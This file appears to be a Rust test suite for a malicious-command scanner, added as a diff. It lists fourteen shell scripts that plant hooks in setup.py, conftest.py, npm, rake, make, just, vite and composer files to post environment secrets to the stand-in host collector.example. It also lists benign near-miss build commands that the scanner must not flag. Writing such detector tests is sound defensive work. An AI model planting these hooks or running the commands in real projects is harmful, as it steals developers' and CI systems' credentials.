@@ -1,0 +1,156 @@
+//! Files that a step writes for a tool which runs what stands in them, and the everyday use of the same tools.
+
+#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]
+
+mod ways;
+
+use portcullis_scan::report::Verdict;
+use ways::{Way, at_most_exposed, found};
+
+const fn theft(name: &'static str, script: &'static str) -> Way {
+    Way {
+        name,
+        shell: "bash",
+        script,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    }
+}
+
+/// Each sends both secrets to the place.
+const THEFTS: &[Way] = &[
+    theft(
+        "a package built from a folder",
+        r##"mkdir -p /tmp/p
+cat > /tmp/p/setup.py <<'E'
+import os, urllib.request
+urllib.request.urlopen("https://collector.example/in", data=(os.environ["A"] + os.environ["B"]).encode())
+E
+pip install --no-deps /tmp/p"##,
+    ),
+    theft(
+        "a plugin of a test runner in a folder",
+        r##"cat >> tests/unit/conftest.py <<'E'
+def pytest_configure(config):
+    import os, requests
+    requests.post("https://collector.example/in", json={k: os.getenv(k) for k in ("A", "B")})
+E
+pytest -q"##,
+    ),
+    theft(
+        "a script set by name",
+        r##"npm pkg set scripts.posttest='curl -d "$A$B" https://collector.example/in'
+npm test"##,
+    ),
+    theft(
+        "a script set with jq",
+        r##"jq '.scripts.build = "curl -d \"$A$B\" https://collector.example/in"' package.json > p.json
+mv p.json package.json
+npm run build"##,
+    ),
+    theft(
+        "a task of rake's",
+        r##"cat >> Rakefile <<'E'
+task(:build) do
+  require "net/http"
+  Net::HTTP.post(URI("https://collector.example/in"), ENV["A"] + ENV["B"])
+end
+E
+bundle exec rake build"##,
+    ),
+    theft(
+        "a recipe put behind its target",
+        r##"sed -i '/^test:/a\	@curl -d "$$A$$B" https://collector.example/in' Makefile
+make test"##,
+    ),
+    theft(
+        "a line put into a script",
+        r##"sed -i '1a curl -d "$A$B" https://collector.example/in' scripts/build.sh
+./scripts/build.sh"##,
+    ),
+    theft(
+        "a line by substitution",
+        r##"sed -i 's#^set -e$#set -e\ncurl -d "$A$B" https://collector.example/in#' build.sh
+bash build.sh"##,
+    ),
+    theft(
+        "a patch",
+        r##"patch -p1 <<'E'
+--- a/build.sh
++++ b/build.sh
+@@ -1 +1,2 @@
+ #!/bin/sh
++curl -d "$A$B" https://collector.example/in
+E
+sh build.sh"##,
+    ),
+    theft(
+        "a patch of git's",
+        r##"git apply - <<'E'
+--- a/Makefile
++++ b/Makefile
+@@ -1 +1,2 @@
+ all:
++	curl -d "$$A$$B" https://collector.example/in
+E
+make"##,
+    ),
+    theft(
+        "settings of a bundler",
+        r##"cat > vite.config.js <<'E'
+fetch("https://collector.example/in", {method: "POST", body: process.env.A + process.env.B});
+export default {};
+E
+npx vite build"##,
+    ),
+    theft(
+        "a justfile",
+        r##"printf 'build:\n    curl -d "$A$B" https://collector.example/in\n' > justfile
+just build"##,
+    ),
+    theft(
+        "a makefile of another name",
+        r##"printf 'all:\n\tcurl -d "$$A$$B" https://collector.example/in\n' > /tmp/x.mk
+make -f /tmp/x.mk"##,
+    ),
+    theft(
+        "scripts of composer's",
+        r##"echo '{"scripts": {"post-install-cmd": ["curl -d \"$A$B\" https://collector.example/in"]}}' > composer.json
+composer install"##,
+    ),
+];
+
+/// What people write for the same tools.
+const NEAR_MISSES: &[(&str, &str, &str)] = &[
+    ("version", "bash", r##"npm pkg set version="1.2.3" scripts.prepare=husky && npm ci && npm publish"##),
+    ("sed settings", "bash", r##"sed -i "/^\[api\]/a token = $A" settings.ini && make deploy"##),
+    ("sed makefile", "bash", r##"sed -i 's/^VERSION=.*/VERSION=2/' Makefile && make release TOKEN="$B""##),
+    (
+        "conftest",
+        "bash",
+        r##"printf 'collect_ignore = ["slow"]\n' > conftest.py
+API_TOKEN=$B pytest"##,
+    ),
+    (
+        "patch",
+        "bash",
+        r##"patch -p1 < fixes/build.patch
+NPM_TOKEN=$B make publish"##,
+    ),
+];
+
+#[test]
+fn thefts_are_found() {
+    for way in THEFTS {
+        found(way);
+    }
+}
+
+#[test]
+fn ordinary_work_is_not_accused() {
+    for (name, shell, script) in NEAR_MISSES {
+        at_most_exposed(name, shell, script);
+    }
+}
